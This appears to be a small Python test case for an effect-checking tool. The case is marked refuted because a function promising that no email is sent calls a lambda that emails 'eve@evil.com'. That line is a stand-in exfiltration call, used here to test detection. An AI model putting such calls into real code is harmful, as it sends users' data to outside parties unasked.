# refuted: the lambda is called, and what it does is an effect of the run
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    f = lambda: send_email("eve@evil.com", "x")
    f()
